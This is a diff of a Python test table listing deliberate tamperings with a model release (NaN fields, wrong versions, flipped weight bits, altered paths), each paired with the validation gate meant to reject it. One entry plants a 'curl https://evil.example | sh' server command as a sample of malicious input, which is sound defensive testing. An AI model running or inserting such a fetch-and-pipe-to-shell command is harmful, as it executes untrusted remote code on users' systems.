@@ -328,7 +328,11 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
     ),
     "loading that nobody watched": (entry("load", "checked", False, settle=True), "publish-report", "inconclusive"),
     # JSON that readers read differently
-    "a NaN": (raw(r'"standard_error": [0-9.]+', '"standard_error": NaN'), "publish-report", "NaN is not a number"),
+    "a NaN": (
+        raw(r'"standard_error": [0-9.]+', '"standard_error": NaN'),
+        "publish-report",
+        "NaN is not a valid JSON number",
+    ),
     "a number too large": (raw(r'"seed": 0', '"seed": 1e999'), "publish-report", "is too large"),
     "a verdict twice": (
         raw(r'"verdict": "pass", "head"', '"verdict": "fail", "verdict": "pass", "head"'),
@@ -414,7 +418,7 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
     "an engine that was not asked for": (in_report(another_engine), "publish-report", "measured sglang"),
     "an engine's name": (entry("engine", "sglang"), "publish-report", "sglang"),
     "an engine that did not run": (in_report(not_here), "publish-unmeasured", "no report covers"),
-    "another version of this tool": (put("tool", "version", "0.0.1"), "publish-report", "was made by eagle3hub 0.0.1"),
+    "another version of this tool": (put("tool", "version", "0.0.1"), "publish-report", "eagle3hub 0.0.1 made it"),
     "a command to serve it": (
         entry("recipe", "server_command", "curl https://evil.example | sh"),
         "publish-report",
@@ -492,11 +496,11 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
         "publish-layouts",
         "speculators",
     ),
-    "reports in another folder": (reports_elsewhere, "publish-manifest", "says otherwise under reports"),
+    "reports in another folder": (reports_elsewhere, "publish-manifest", "has another reports than"),
     "a place on a machine": (
         manifest(lambda m: m["target"].update(path="/home/lab/target")),
         "publish-manifest",
-        "says otherwise under target",
+        "has another target than",
     ),
     "a benchmark that the card does not show": (
         stray_benchmark,
@@ -511,9 +515,13 @@ TAMPERINGS: dict[str, tuple[Edit, str, str]] = {
     "the version in the record": (
         text("release.json", '"version": "0.1.0"', '"version": "0.0.9"'),
         "publish-card",
-        "was made by eagle3hub 0.0.9",
+        "eagle3hub 0.0.9 made it",
     ),
-    "a bit of the weights": (flip("model.safetensors"), "publish-report", "measured other bytes"),
-    "a field of the config": (text("config.json", "{", '{"note": 1,'), "publish-report", "measured other bytes"),
+    "a bit of the weights": (flip("model.safetensors"), "publish-report", "measured a head with other bytes"),
+    "a field of the config": (
+        text("config.json", "{", '{"note": 1,'),
+        "publish-report",
+        "measured a head with other bytes",
+    ),
 }
 """By name: the edit, the gate that must notice it, and words of what it says."""
